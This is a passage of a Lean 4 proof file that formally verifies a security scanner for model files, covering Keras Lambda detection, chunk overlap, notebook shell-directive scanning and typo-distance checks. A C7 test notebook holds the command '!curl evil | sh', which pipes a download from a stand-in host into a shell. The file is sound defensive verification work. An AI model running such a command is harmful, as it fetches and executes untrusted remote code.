      scan_dataset_csv [markerPattern] [] ([["aaaaa".toList]].take 10000) true none :=
  (C2_sampling_amended [markerPattern] [] [["aaaaa".toList]]).2.2 (by decide)

/-! ## Claim C1: the global verdict -/

/-- The folded `has_critical_errors` flag is the disjunction of the
    per-file contributions. -/
theorem runScan_flag (repo : Option (List Char)) (h5py : Bool) :
    ∀ (jobs : List FileJob) (init : List ScanResultM) (b : Bool),
      (jobs.foldl (fun acc job =>
        let pr := processFile repo h5py job
        (acc.1 ++ [pr.1], acc.2 || pr.2)) (init, b)).2 =
      (b || jobs.any (fun j => (processFile repo h5py j).2)) := by
  intro jobs
  induction jobs with
  | nil => intro init b; simp
  | cons j rest ih =>
    intro init b
    simp only [List.foldl_cons, List.any_cons]
    rw [ih]
    cases b <;> cases hj : (processFile repo h5py j).2 <;> simp [hj]

/-- One file raises `has_critical_errors` iff its static threat list is
    non-empty, or a repo is given, the file is unverified and a recorded
    message contains `CRITICAL`. -/
theorem processFile_flag_iff (repo : Option (List Char)) (h5py : Bool)
    (job : FileJob) :
    (processFile repo h5py job).2 = true ↔
      staticStep h5py job ≠ [] ∨
        (repo.isSome = true ∧
          (identityStep repo job).identityVerified = false ∧
          ∃ t ∈ (identityStep repo job).threats ++ staticStep h5py job,
            strContains "CRITICAL".toList t = true) := by
  by_cases hst : staticStep h5py job = []
  · simp [processFile, hst, List.any_eq_true, Bool.and_eq_true, Bool.not_eq_true']
    tauto
  · have hne : (staticStep h5py job).isEmpty = false := by
      rcases h : staticStep h5py job with _ | ⟨a, b⟩
      · exact absurd h hst
      · rfl
    simp [processFile, hne, hst]

/-- C1 amended: with force-mode disabled, the pipeline blocks (exit 1)
    iff some file's static-engine threat list is non-empty — regardless
    of the threats' severities — or a repo is configured, the file is not
    identity-verified, and one of its recorded threat messages contains
    the substring `CRITICAL`. -/
theorem C1_verdict_amended (repo : Option (List Char)) (h5py : Bool)
    (jobs : List FileJob) :
    scanBlocks repo h5py false jobs = true ↔
      ∃ job ∈ jobs,
        staticStep h5py job ≠ [] ∨
          (repo.isSome = true ∧
            (identityStep repo job).identityVerified = false ∧
            ∃ t ∈ (identityStep repo job).threats ++ staticStep h5py job,
              strContains "CRITICAL".toList t = true) := by
  have h1 : scanBlocks repo h5py false jobs =
      jobs.any (fun j => (processFile repo h5py j).2) := by
    rw [scanBlocks, runScan, runScan_flag]
    simp
  rw [h1, List.any_eq_true]
  exact exists_congr fun job =>
    and_congr_right fun _ => processFile_flag_iff repo h5py job

/-- C1 counterexample: a single `.h5` file whose only threat is the
    WARNING for the missing h5py dependency makes the pipeline block,
    although no threat reaches the default CRITICAL threshold and no
    identity mismatch occurred. -/
theorem C1_counterexample :
    scanBlocks none false false [warnOnlyJob] = true ∧
    claimC1Blocking Sev.critical none false [warnOnlyJob] = false :=
  ⟨by decide, by decide⟩

/-! ## Claim C5: the Keras layer walk -/

/-- C5: the layer walk emits one CRITICAL per layer whose `class_name` is
    `Lambda`, recurses into the nested config of layers whose
    `class_name` is `Model`, `Functional` or `Sequential` (the nested
    result is spliced before the remaining layers' threats, and an
    exception propagates), returns the empty list when the `layers` value
    is not a list, and the concrete zip archive whose `config.json` is
    the Lambda example yields exactly one CRITICAL Lambda threat. -/
theorem C5_layer_walk :
    (∀ (rec : Json → Except Unit (List (List Char)))
        (lk : List (List Char × Json)) (rest : List Json),
      jlookup lk "class_name".toList = some (Json.jstr "Lambda".toList) →
      _analyze_layers rec (Json.jobj lk :: rest) =
        (match _analyze_layers rec rest with
         | Except.ok rs => Except.ok (criticalLambdaMsg :: rs)
         | Except.error e => Except.error e)) ∧
    (∀ (rec : Json → Except Unit (List (List Char)))
        (lk : List (List Char × Json)) (rest : List Json) (cn : List Char),
      (cn = "Model".toList ∨ cn = "Functional".toList ∨ cn = "Sequential".toList) →
      jlookup lk "class_name".toList = some (Json.jstr cn) →
      _analyze_layers rec (Json.jobj lk :: rest) =
        (match rec ((jlookup lk "config".toList).getD (Json.jobj [])) with
         | Except.error e => Except.error e
         | Except.ok ns =>
           match _analyze_layers rec rest with
           | Except.error e => Except.error e
           | Except.ok rs => Except.ok (ns ++ rs))) ∧
    (∀ (fuel : Nat) (kvs mkvs : List (List Char × Json)) (v : Json),
      (jlookup kvs "config".toList).getD (Json.jobj kvs) = Json.jobj mkvs →
      (jlookup mkvs "layers".toList).getD (Json.jarr []) = v →
      (∀ ls, v ≠ Json.jarr ls) →
      _analyze_model_config_fuel (fuel + 1) (Json.jobj kvs) = Except.ok []) ∧
    scan_keras_file true lambdaZipFile = [criticalLambdaMsg] := by
  refine ⟨?_, ?_, ?_, rfl⟩
  · intro rec lk rest h
    simp only [show "class_name".toList = ['c', 'l', 'a', 's', 's', '_', 'n', 'a', 'm', 'e'] from rfl,
      show "Lambda".toList = ['L', 'a', 'm', 'b', 'd', 'a'] from rfl] at h
    rcases hres : _analyze_layers rec rest with e | rs <;>
      simp +decide [_analyze_layers, h, hres]
  · intro rec lk rest cn hcn h
    simp only [show "class_name".toList = ['c', 'l', 'a', 's', 's', '_', 'n', 'a', 'm', 'e'] from rfl] at h
    rcases hcn with h1 | h1 | h1 <;> subst h1 <;>
      rcases hnest : rec ((jlookup lk ['c', 'o', 'n', 'f', 'i', 'g']).getD
        (Json.jobj [])) with e | ns <;>
      rcases hres : _analyze_layers rec rest with e2 | rs <;>
      simp +decide [_analyze_layers, h, hnest, hres]
  · intro fuel kvs mkvs v h1 h2 h3
    cases v with
    | jarr ls => exact absurd rfl (h3 ls)
    | jnull => rw [_analyze_model_config_fuel.eq_def]; simp only [h1, h2]
    | jbool b => rw [_analyze_model_config_fuel.eq_def]; simp only [h1, h2]
    | jnum n => rw [_analyze_model_config_fuel.eq_def]; simp only [h1, h2]
    | jstr s => rw [_analyze_model_config_fuel.eq_def]; simp only [h1, h2]
    | jobj o => rw [_analyze_model_config_fuel.eq_def]; simp only [h1, h2]

/-- Witness for C5's Lambda clause at a concrete one-layer list. -/
theorem C5_layer_walk_witness :
    _analyze_layers (fun _ => Except.ok [])
        [Json.jobj [("class_name".toList, Json.jstr "Lambda".toList)]] =
      Except.ok [criticalLambdaMsg] := by
  have h := C5_layer_walk.1 (fun _ => Except.ok [])
    [("class_name".toList, Json.jstr "Lambda".toList)] [] rfl
  have h0 : _analyze_layers (fun _ => Except.ok ([] : List (List Char))) [] =
      Except.ok [] := rfl
  rw [h0] at h
  exact h

/-! ## Claim C6: sliding-window overlap coverage -/

/-- The reader produces no chunks only for the empty file. -/
theorem readChunks_eq_nil_iff (s : List Char) : readChunks s = [] ↔ s = [] := by
  rw [readChunks]
  split <;> simp_all

/-- The yielded reads concatenate back to the file contents. -/
theorem readChunks_flatten (s : List Char) : (readChunks s).flatten = s := by
  induction s using readChunks.induct with
  | _ s ih =>
    rw [readChunks]
    split
    · simp_all
    · simp_all

/-- Every read except the last is a full window. -/
theorem readChunks_midFull (s : List Char) : midFull (readChunks s) := by
  induction s using readChunks.induct with
  | case1 x s hnil =>
    have hnil1 : x = [] := hnil
    rw [readChunks, dif_pos hnil1]
    simp [midFull]
  | case2 x s hne ih =>
    have hne1 : ¬x = [] := hne
    have ih1 : midFull (readChunks (List.drop CHUNK_SIZE x)) := ih
    rw [readChunks, dif_neg hne1]
    refine ⟨fun hne2 => ?_, ih1⟩
    have hd : x.drop CHUNK_SIZE ≠ [] := by
      intro hnil
      rw [(readChunks_eq_nil_iff _).mpr hnil] at hne2
      exact hne2 rfl
    have hlen : CHUNK_SIZE < x.length := by
      by_contra hle
      exact hd (List.drop_eq_nil_of_le (by omega))
    simp [List.length_take]
    omega

/-- Coverage: any occurrence of a pattern of length at most the overlap
    that reaches past the buffer is wholly inside one yield. -/
theorem slidingAux_cover :
    ∀ (rl : List (List Char)) (buffer p q r : List Char),
      midFull rl →
      buffer ++ rl.flatten = p ++ q ++ r →
      q ≠ [] → q.length ≤ OVERLAP_SIZE →
      buffer.length < p.length + q.length →
      ∃ c ∈ slidingAux buffer rl, ∃ u v, c = u ++ q ++ v := by
  intro rl
  induction rl with
  | nil =>
    intro buffer p q r _ heq hq _ hpos
    exfalso
    have hlen := congrArg List.length heq
    simp [List.length_append] at hlen
    omega
  | cons r₁ rs ih =>
    intro buffer p q r hfull heq hq hql hpos
    have heq1 : (buffer ++ r₁) ++ rs.flatten = p ++ q ++ r := by
      simpa [List.append_assoc] using heq
    by_cases hcase : p.length + q.length ≤ buffer.length + r₁.length
    · refine ⟨buffer ++ r₁, by simp [slidingAux], p,
        r.take (buffer.length + r₁.length - (p.length + q.length)), ?_⟩
      have h2 : buffer ++ r₁ = (p ++ q ++ r).take (buffer.length + r₁.length) := by
        rw [← heq1]
        have h3 := List.take_left (buffer ++ r₁) rs.flatten
        rw [List.length_append] at h3
        exact h3.symm
      rw [h2, List.take_append_eq_append_take,
        List.take_of_length_le (by rw [List.length_append]; omega)]
      simp [List.length_append, List.append_assoc]
    · have hq1 : 0 < q.length := List.length_pos.mpr hq
      have hrs : rs ≠ [] := by
        intro hnil
        subst hnil
        have hlen := congrArg List.length heq1
        simp [List.length_append] at hlen
        omega
      have hr₁ : r₁.length = CHUNK_SIZE := hfull.1 hrs
      have hV : OVERLAP_SIZE ≤ r₁.length := by
        rw [hr₁]
        decide
      have hkp : buffer.length + (r₁.length - OVERLAP_SIZE) ≤ p.length := by
        omega
      have heq2 : lastOverlap r₁ ++ rs.flatten =
          p.drop (buffer.length + (r₁.length - OVERLAP_SIZE)) ++ q ++ r := by
        have e1 : ((buffer ++ r₁) ++ rs.flatten).drop
            (buffer.length + (r₁.length - OVERLAP_SIZE)) =
            lastOverlap r₁ ++ rs.flatten := by
          rw [List.drop_append_eq_append_drop]
          have hx : buffer.length + (r₁.length - OVERLAP_SIZE) -
              (buffer ++ r₁).length = 0 := by
            rw [List.length_append]
            omega
          rw [hx, List.drop_zero, List.drop_append_eq_append_drop,
            List.drop_eq_nil_of_le
              (show buffer.length ≤ buffer.length + (r₁.length - OVERLAP_SIZE) by omega)]
          have hy : buffer.length + (r₁.length - OVERLAP_SIZE) - buffer.length =
              r₁.length - OVERLAP_SIZE := by omega
          rw [hy]
          simp [lastOverlap]
        have e2 : (p ++ q ++ r).drop (buffer.length + (r₁.length - OVERLAP_SIZE)) =
            p.drop (buffer.length + (r₁.length - OVERLAP_SIZE)) ++ q ++ r := by
          rw [List.drop_append_eq_append_drop]
          have hx : buffer.length + (r₁.length - OVERLAP_SIZE) -
              (p ++ q).length = 0 := by
            rw [List.length_append]
            omega
          rw [hx, List.drop_zero, List.drop_append_eq_append_drop,
            (show buffer.length + (r₁.length - OVERLAP_SIZE) - p.length = 0 by omega),
            List.drop_zero]
        rw [← e1, ← e2, heq1]
      have hnewpos : (lastOverlap r₁).length <
          (p.drop (buffer.length + (r₁.length - OVERLAP_SIZE))).length + q.length := by
        have hlol : (lastOverlap r₁).length = OVERLAP_SIZE := by
          simp [lastOverlap, List.length_drop]
          omega
        rw [hlol, List.length_drop]
        omega
      obtain ⟨c, hc, u, v, hcuv⟩ := ih (lastOverlap r₁)
        (p.drop (buffer.length + (r₁.length - OVERLAP_SIZE))) q r
        hfull.2 heq2 hq hql hnewpos
      exact ⟨c, List.mem_cons_of_mem _ hc, u, v, hcuv⟩

/-- C6: consecutive yields share the last 4096 characters of the earlier
    read — each yield after the first is the previous read's 4096-long
    tail followed by the current 1 MiB read — and consequently every
    substring of the file's text of length at most 4096 characters is
    wholly contained in at least one yielded chunk. -/
theorem C6_overlap_coverage :
    (∀ (buffer r : List Char) (rs : List (List Char)),
      slidingAux buffer (r :: rs) =
        (buffer ++ r) :: slidingAux (r.drop (r.length - OVERLAP_SIZE)) rs) ∧
    (∀ (s p q r : List Char), s = p ++ q ++ r → q ≠ [] →
      q.length ≤ OVERLAP_SIZE →
      ∃ c ∈ _read_text_sliding s, ∃ u v, c = u ++ q ++ v) := by
  refine ⟨fun buffer r rs => rfl, ?_⟩
  intro s p q r hs hq hql
  subst hs
  exact slidingAux_cover (readChunks (p ++ q ++ r)) [] p q r
    (readChunks_midFull _) (by rw [readChunks_flatten]; simp)
    hq hql
    (by
      have := List.length_pos.mpr hq
      simp
      omega)

/-! ## Claim C7: the notebook directive scan -/

/-- No dangerous magic is a proper prefix of another. -/
theorem magic_prefix_antisymm :
    ∀ m₁ ∈ DANGEROUS_MAGICS, ∀ m₂ ∈ DANGEROUS_MAGICS,
      m₁.isPrefixOf m₂ = true → m₁ = m₂ := by
  decide

/-- At most one dangerous magic matches any given stripped line. -/
theorem magic_filter_len (st : List Char) :
    (DANGEROUS_MAGICS.filter (fun m => m.isPrefixOf st)).length ≤ 1 := by
  by_contra hlen
  push_neg at hlen
  rcases hf : DANGEROUS_MAGICS.filter (fun m => m.isPrefixOf st) with
    _ | ⟨a, _ | ⟨b, rest⟩⟩
  · rw [hf] at hlen
    simp at hlen
  · rw [hf] at hlen
    simp at hlen
  · have hsub : (a :: b :: rest).Sublist DANGEROUS_MAGICS := by
      rw [← hf]
      exact List.filter_sublist _
    have hnd : (a :: b :: rest).Nodup := hsub.nodup (by decide)
    have hab : a ≠ b := by
      intro h
      subst h
      exact (List.nodup_cons.mp hnd).1 (List.mem_cons_self _ _)
    have ham : a ∈ DANGEROUS_MAGICS ∧ a.isPrefixOf st = true := by
      have hm : a ∈ DANGEROUS_MAGICS.filter (fun m => m.isPrefixOf st) := by
        rw [hf]
        exact List.mem_cons_self _ _
      simpa using List.mem_filter.mp hm
    have hbm : b ∈ DANGEROUS_MAGICS ∧ b.isPrefixOf st = true := by
      have hm : b ∈ DANGEROUS_MAGICS.filter (fun m => m.isPrefixOf st) := by
        rw [hf]
        exact List.mem_cons_of_mem _ (List.mem_cons_self _ _)
      simpa using List.mem_filter.mp hm
    rcases List.prefix_or_prefix_of_prefix
        (List.isPrefixOf_iff_prefix.mp ham.2)
        (List.isPrefixOf_iff_prefix.mp hbm.2) with h | h
    · exact hab (magic_prefix_antisymm a ham.1 b hbm.1
        (List.isPrefixOf_iff_prefix.mpr h))
    · exact hab (magic_prefix_antisymm b hbm.1 a ham.1
        (List.isPrefixOf_iff_prefix.mpr h)).symm

/-- One threat per matching line, since at most one magic matches. -/
theorem magic_line (st : List Char) (t : NbThreat) :
    (DANGEROUS_MAGICS.filter (fun m => m.isPrefixOf st)).map (fun _ => t) =
      if DANGEROUS_MAGICS.any (fun m => m.isPrefixOf st) then [t] else [] := by
  rcases hf : DANGEROUS_MAGICS.filter (fun m => m.isPrefixOf st) with
    _ | ⟨a, _ | ⟨b, rest⟩⟩
  · have hany : DANGEROUS_MAGICS.any (fun m => m.isPrefixOf st) = false := by
      rw [List.any_eq_false]
      intro m hm hp
      have hmem : m ∈ DANGEROUS_MAGICS.filter (fun m => m.isPrefixOf st) :=
        List.mem_filter.mpr ⟨hm, hp⟩
      rw [hf] at hmem
      simp at hmem
    rw [hf]
    simp [hany]
  · have ha : a ∈ DANGEROUS_MAGICS.filter (fun m => m.isPrefixOf st) := by
      rw [hf]
      exact List.mem_cons_self _ _
    have h2 := List.mem_filter.mp ha
    have hany : DANGEROUS_MAGICS.any (fun m => m.isPrefixOf st) = true := by
      rw [List.any_eq_true]
      exact ⟨a, h2.1, h2.2⟩
    rw [hf]
    simp [hany]
  · exfalso
    have hle := magic_filter_len st
    rw [hf] at hle
    simp at hle

/-- The per-magic inner loop of the directive scan, rephrased as the
    claim's one-threat-per-matching-line `filterMap`. -/
theorem flatMap_magic (i : Nat) : ∀ ls : List (List Char),
    (ls.flatMap (fun line =>
      (DANGEROUS_MAGICS.filter (fun m => m.isPrefixOf (pystrip line))).map
        (fun _ => NbThreat.magic (i + 1) ((pystrip line).take 50)))) =
    (ls.filterMap (fun line =>
      if DANGEROUS_MAGICS.any (fun m => m.isPrefixOf (pystrip line))
      then some (NbThreat.magic (i + 1) ((pystrip line).take 50))
      else none))
  | [] => rfl
  | l :: ls => by
    rw [List.flatMap_cons, List.filterMap_cons, magic_line, flatMap_magic i ls]
    by_cases h : DANGEROUS_MAGICS.any (fun m => m.isPrefixOf (pystrip l)) = true
    · simp [h]
    · simp [h]

/-- Joining the encoded list of strings is concatenation. -/
theorem joinStrList_map_jstr : ∀ ls : List (List Char),
    joinStrList (ls.map Json.jstr) = some ls.flatten
  | [] => rfl
  | s :: ls => by
    simp [joinStrList, joinStrList_map_jstr ls]

/-- Normalizing a well-formed cell source never raises and yields its
    text. -/
theorem joinOrStr_encodeSource (s : SourceM) :
    joinOrStr (encodeSource s) = some (sourceTextOf s) := by
  cases s with
  | sstr s => rfl
  | slist ls => simp [encodeSource, joinOrStr, sourceTextOf, joinStrList_map_jstr]

/-- Normalizing a well-formed output payload never raises and yields its
    text. -/
theorem joinOrStr_encodeContent (c : OutContentM) :
    joinOrStr (encodeContent c) = some (outContentText c) := by
  cases c with
  | ostr s => rfl
  | olist ls => simp [encodeContent, joinOrStr, outContentText, joinStrList_map_jstr]

/-- One well-formed output entry never raises and yields its expected
    threats. -/
theorem outputEntryScan_encode (susp : List Pattern) (i : Nat) (o : OutM) :
    outputEntryScan susp i (encodeOut o) = some (outThreatsM susp i o) := by
  cases o with
  | otext c =>
    have h := joinOrStr_encodeContent c
    simp +decide [encodeOut, outputEntryScan, jlookup, List.find?, h, outThreatsM]
    split <;> simp
  | odataPlain c =>
    have h := joinOrStr_encodeContent c
    simp +decide [encodeOut, outputEntryScan, jlookup, List.find?, h, outThreatsM]
    split <;> simp
  | odataEmpty => rfl
  | oempty => rfl

/-- A list of well-formed output entries never raises. -/
theorem outputsScan_encode (susp : List Pattern) (i : Nat) : ∀ os : List OutM,
    outputsScan susp i (os.map encodeOut) =
      (true, os.flatMap (outThreatsM susp i))
  | [] => rfl
  | o :: os => by
    rw [List.map_cons, List.flatMap_cons]
    simp [outputsScan, outputEntryScan_encode, outputsScan_encode susp i os]

/-- One well-formed cell never raises and yields its expected threats. -/
theorem nbCellScan_encode (getSev : List Char → List Char → Option (List Char))
    (astO : List Char → Option (List PyNode)) (susp : List Pattern)
    (i : Nat) (c : CellM) :
    nbCellScan getSev astO susp i (encodeCell c) =
      (true, cellThreatsM getSev astO susp i c) := by
  obtain ⟨ct, cs, co⟩ := c
  cases co with
  | none =>
    by_cases hic : ct = "code".toList <;>
      simp +decide [nbCellScan, encodeCell, cellThreatsM, jlookup, List.find?,
        joinOrStr_encodeSource, hic]
  | some os =>
    by_cases hic : ct = "code".toList
    · simp +decide [nbCellScan, encodeCell, cellThreatsM, jlookup, List.find?,
        joinOrStr_encodeSource, outputsScan_encode, outputsBlock, hic,
        List.append_assoc]
    · have hic2 : ¬ct = ['c', 'o', 'd', 'e'] := by simpa using hic
      simp +decide [nbCellScan, encodeCell, cellThreatsM, jlookup, List.find?,
        joinOrStr_encodeSource, outputsScan_encode, outputsBlock, hic2,
        List.append_assoc]

/-- The cell loop over a well-formed notebook never raises and
    accumulates the per-cell threats. -/
theorem nbCellsGo_encode (getSev : List Char → List Char → Option (List Char))
    (astO : List Char → Option (List PyNode)) (susp : List Pattern) :
    ∀ (cells : List CellM) (i : Nat) (acc : List NbThreat),
      nbCellsGo getSev astO susp i acc (cells.map encodeCell) =
        Except.ok (acc ++ cellsThreatsFrom getSev astO susp i cells)
  | [], i, acc => by simp [nbCellsGo, cellsThreatsFrom]
  | c :: cs, i, acc => by
    rw [List.map_cons]
    simp [nbCellsGo, nbCellScan_encode, cellsThreatsFrom,
      nbCellsGo_encode getSev astO susp cs (i + 1)
        (acc ++ cellThreatsM getSev astO susp i c),
      List.append_assoc]

/-- `scan_notebook` on a well-formed notebook. -/
theorem scan_notebook_encode (getSev : List Char → List Char → Option (List Char))
    (astO : List Char → Option (List PyNode)) (susp : List Pattern)
    (cells : List CellM) :
    scan_notebook getSev astO susp
        (NotebookInput.parsed (encodeNotebook cells)) =
      cellsThreatsFrom getSev astO susp 0 cells := by
  simp +decide [scan_notebook, scanNotebookCore, encodeNotebook, jlookup,
    List.find?, nbCellsGo_encode]

/-- The syntax-tree scan never emits a directive threat. -/
theorem scan_ast_no_magic (getSev : List Char → List Char → Option (List Char))
    (ci : Nat) (nodes : List PyNode) :
    ∀ t ∈ _scan_ast_nodes getSev ci nodes, isMagicThreat t = false := by
  intro t ht
  unfold _scan_ast_nodes at ht
  rw [List.mem_flatMap] at ht
  obtain ⟨node, _, ht⟩ := ht
  cases node with
  | pimport names =>
    simp only [List.mem_filterMap] at ht
    obtain ⟨n, _, hn⟩ := ht
    split at hn
    · injection hn with h
      subst h
      rfl
    · simp at hn
  | pfromImport m =>
    cases m with
    | none => simp at ht
    | some mm =>
      simp only at ht
      split at ht
      · simp at ht
        subst ht
        rfl
      · simp at ht
  | pcallAttr o m =>
    simp only at ht
    rcases hg : getSev o m with _ | sev
    · rw [hg] at ht
      simp at ht
    · rw [hg] at ht
      simp at ht
      obtain ⟨-, rfl⟩ := ht
      rfl
  | pcallName f =>
    simp only at ht
    rcases hg : getSev "builtins".toList f with _ | sev
    · rw [hg] at ht
      simp at ht
    · rw [hg] at ht
      simp at ht
      obtain ⟨-, rfl⟩ := ht
      rfl
  | pother => simp at ht

/-- The cleaned-source analysis step never emits a directive threat. -/
theorem astStep_no_magic (getSev : List Char → List Char → Option (List Char))
    (astO : List Char → Option (List PyNode)) (i : Nat) (src : List Char) :
    (astStep getSev astO i src).filter isMagicThreat = [] := by
  rw [List.filter_eq_nil_iff]
  intro t ht
  have hrw : astStep getSev astO i src =
      if (pystrip (_clean_magics src)).isEmpty then []
      else
        match astO (_clean_magics src) with
        | some nodes => _scan_ast_nodes getSev (i + 1) nodes
        | none => [] := rfl
  rw [hrw] at ht
  by_cases he : (pystrip (_clean_magics src)).isEmpty
  · rw [if_pos he] at ht
    simp at ht
  · rw [if_neg he] at ht
    rcases ha : astO (_clean_magics src) with _ | nodes
    · rw [ha] at ht
      simp at ht
    · rw [ha] at ht
      simpa using scan_ast_no_magic getSev (i + 1) nodes t ht

/-- A well-formed output entry never yields a directive threat. -/
theorem outThreatsM_no_magic (susp : List Pattern) (i : Nat) (o : OutM) :
    ∀ t ∈ outThreatsM susp i o, isMagicThreat t = false := by
  intro t ht
  cases o with
  | otext c =>
    simp only [outThreatsM] at ht
    split at ht
    · simp at ht
    · rw [List.mem_map] at ht
      obtain ⟨p, _, rfl⟩ := ht
      rfl
  | odataPlain c =>
    simp only [outThreatsM] at ht
    split at ht
    · simp at ht
    · rw [List.mem_map] at ht
      obtain ⟨p, _, rfl⟩ := ht
      rfl
  | odataEmpty => simp [outThreatsM] at ht
  | oempty => simp [outThreatsM] at ht

/-- The directive threats of the whole directive scan of a code cell. -/
theorem magicScan_filter (i : Nat) (src : List Char) :
    (magicScan i src).filter isMagicThreat = magicScan i src := by
  rw [List.filter_eq_self]
  intro t ht
  unfold magicScan at ht
  rw [List.mem_flatMap] at ht
  obtain ⟨line, _, ht⟩ := ht
  simp only [List.mem_map] at ht
  obtain ⟨m, _, rfl⟩ := ht
  rfl

/-- The code-cell part of the scan: directive threats survive the magic
    filter unchanged, in the claim's one-per-line form. -/
theorem codePart_filter (getSev : List Char → List Char → Option (List Char))
    (astO : List Char → Option (List PyNode)) (i : Nat) (src : List Char) :
    (magicScan i src ++ astStep getSev astO i src).filter isMagicThreat =
      (pylines src).filterMap (fun line =>
        if DANGEROUS_MAGICS.any (fun m => m.isPrefixOf (pystrip line))
        then some (NbThreat.magic (i + 1) ((pystrip line).take 50))
        else none) := by
  rw [List.filter_append, magicScan_filter, astStep_no_magic, List.append_nil]
  exact flatMap_magic i (pylines src)

/-- The directive threats among a well-formed cell's threats. -/
theorem cellThreatsM_filter_magic
    (getSev : List Char → List Char → Option (List Char))
    (astO : List Char → Option (List PyNode)) (susp : List Pattern)
    (i : Nat) (c : CellM) :
    (cellThreatsM getSev astO susp i c).filter isMagicThreat =
      (if c.ctype = "code".toList
       then (pylines (sourceTextOf c.csrc)).filterMap (fun line =>
         if DANGEROUS_MAGICS.any (fun m => m.isPrefixOf (pystrip line))
         then some (NbThreat.magic (i + 1) ((pystrip line).take 50))
         else none)
       else []) := by
  obtain ⟨ct, cs, co⟩ := c
  have hsec : ((susp.filter (fun p => p.pmatch (sourceTextOf cs))).map
      (fun p => NbThreat.secretSrc (i + 1) p.pstr)).filter isMagicThreat = [] := by
    rw [List.filter_eq_nil_iff]
    intro t ht
    rw [List.mem_map] at ht
    obtain ⟨p, _, rfl⟩ := ht
    simp [isMagicThreat]
  by_cases hic : ct = "code".toList
  · subst hic
    rcases co with _ | os
    · have e : cellThreatsM getSev astO susp i
          (CellM.mk "code".toList cs none) =
          (magicScan i (sourceTextOf cs) ++
            astStep getSev astO i (sourceTextOf cs)) ++
            (susp.filter (fun p => p.pmatch (sourceTextOf cs))).map
              (fun p => NbThreat.secretSrc (i + 1) p.pstr) := by
        simp [cellThreatsM]
      rw [e, List.filter_append, codePart_filter, hsec, List.append_nil,
        if_pos rfl]
    · have hout : (os.flatMap (outThreatsM susp i)).filter isMagicThreat = [] := by
        rw [List.filter_eq_nil_iff]
        intro t ht
        rw [List.mem_flatMap] at ht
        obtain ⟨o, _, ht⟩ := ht
        simpa using outThreatsM_no_magic susp i o t ht
      have e : cellThreatsM getSev astO susp i
          (CellM.mk "code".toList cs (some os)) =
          (magicScan i (sourceTextOf cs) ++
            astStep getSev astO i (sourceTextOf cs)) ++
            (susp.filter (fun p => p.pmatch (sourceTextOf cs))).map
              (fun p => NbThreat.secretSrc (i + 1) p.pstr) ++
            os.flatMap (outThreatsM susp i) := by
        simp [cellThreatsM]
      rw [e, List.filter_append, List.filter_append, codePart_filter, hsec,
        hout, List.append_nil, List.append_nil, if_pos rfl]
  · have hic2 : ¬ct = ['c', 'o', 'd', 'e'] := by
      simpa using hic
    have e : cellThreatsM getSev astO susp i (CellM.mk ct cs co) =
        (susp.filter (fun p => p.pmatch (sourceTextOf cs))).map
          (fun p => NbThreat.secretSrc (i + 1) p.pstr) := by
      simp [cellThreatsM, hic2]
    rw [e, hsec, if_neg hic]

/-- The directive threats of the whole well-formed notebook, cell by
    cell. -/
theorem cellsThreatsFrom_filter
    (getSev : List Char → List Char → Option (List Char))
    (astO : List Char → Option (List PyNode)) (susp : List Pattern) :
    ∀ (cells : List CellM) (i : Nat),
      (cellsThreatsFrom getSev astO susp i cells).filter isMagicThreat =
        (List.enumFrom i cells).flatMap (fun ci =>
          if ci.2.ctype = "code".toList
          then (pylines (sourceTextOf ci.2.csrc)).filterMap (fun line =>
            if DANGEROUS_MAGICS.any (fun m => m.isPrefixOf (pystrip line))
            then some (NbThreat.magic (ci.1 + 1) ((pystrip line).take 50))
            else none)
          else [])
  | [], i => rfl
  | c :: cs, i => by
    rw [List.enumFrom_cons, List.flatMap_cons]
    simp only [cellsThreatsFrom, List.filter_append,
      cellThreatsM_filter_magic, cellsThreatsFrom_filter getSev astO susp cs (i + 1)]

/-- C7: the directive scan applies only to cells whose `cell_type` is
    `code`; within such a cell each source line whose stripped form
    starts with one of the dangerous directives produces one HIGH magic
    threat carrying the first 50 characters of the stripped line and the
    1-based cell index — for every well-formed notebook the magic threats
    of `scan_notebook` are exactly the claim's directive list — and the
    notebook with a single code cell `!curl evil | sh` yields exactly one
    directive threat on cell 1. -/
theorem C7_directive_scan :
    (∀ (getSev : List Char → List Char → Option (List Char))
       (astO : List Char → Option (List PyNode)) (susp : List Pattern)
       (cells : List CellM),
      (scan_notebook getSev astO susp
          (NotebookInput.parsed (encodeNotebook cells))).filter isMagicThreat =
        claimC7Directives cells) ∧
    (∀ getSev : List Char → List Char → Option (List Char),
      scan_notebook getSev (fun _ => some [PyNode.pother]) []
          (NotebookInput.parsed curlNb) =
        [NbThreat.magic 1 "!curl evil | sh".toList]) := by
  constructor
  · intro getSev astO susp cells
    rw [scan_notebook_encode, cellsThreatsFrom_filter]
    rfl
  · intro getSev
    rfl

/-! ## Claim C9: the typo predicate of the dependency engine -/

/-- The base equations of the distance, in closed form. -/
theorem lev_nil_left (ys : List Char) : lev [] ys = ys.length := by
  cases ys <;> simp [lev]

/-- The other base equation of the distance. -/
theorem lev_nil_right (xs : List Char) : lev xs [] = xs.length := by
  cases xs <;> simp [lev]

/-- Editing nothing costs nothing. -/
theorem lev_self : ∀ a : List Char, lev a a = 0
  | [] => by simp [lev]
  | x :: xs => by simp [lev, lev_self xs]

/-- Distance zero is equality. -/
theorem lev_eq_zero (a b : List Char) : lev a b = 0 ↔ a = b := by
  induction a, b using lev.induct with
  | case1 ys => cases ys <;> simp [lev]
  | case2 xs hne =>
    cases xs with
    | nil => exact (hne rfl).elim
    | cons x t => simp [lev]
  | case3 xs y ys ih => simp [lev, ih]
  | case4 x xs y ys hxy ih1 ih2 ih3 => simp [lev, hxy]

/-- Inserting one character at the front costs at most one edit. -/
theorem lev_cons_self : ∀ (s : List Char) (c : Char), lev s (c :: s) ≤ 1
  | [], _ => by simp [lev]
  | z :: s', c => by
    by_cases h : z = c
    · subst h
      simpa [lev] using lev_cons_self s' z
    · simp [lev, h, lev_self]

/-- Substituting one character costs at most one edit. -/
theorem lev_subst_le : ∀ (p s : List Char) (x y : Char),
    lev (p ++ x :: s) (p ++ y :: s) ≤ 1
  | [], s, x, y => by
    by_cases h : x = y
    · subst h
      simp [lev, lev_self]
    · simp [lev, h, lev_self]
  | p₀ :: p', s, x, y => by
    simpa [lev] using lev_subst_le p' s x y

/-- Inserting one character anywhere costs at most one edit. -/
theorem lev_insert_le : ∀ (p s : List Char) (c : Char),
    lev (p ++ s) (p ++ c :: s) ≤ 1
  | [], s, c => by simpa using lev_cons_self s c
  | p₀ :: p', s, c => by
    simpa [lev] using lev_insert_le p' s c

/-- The edit distance is symmetric. -/
theorem lev_comm (a b : List Char) : lev a b = lev b a := by
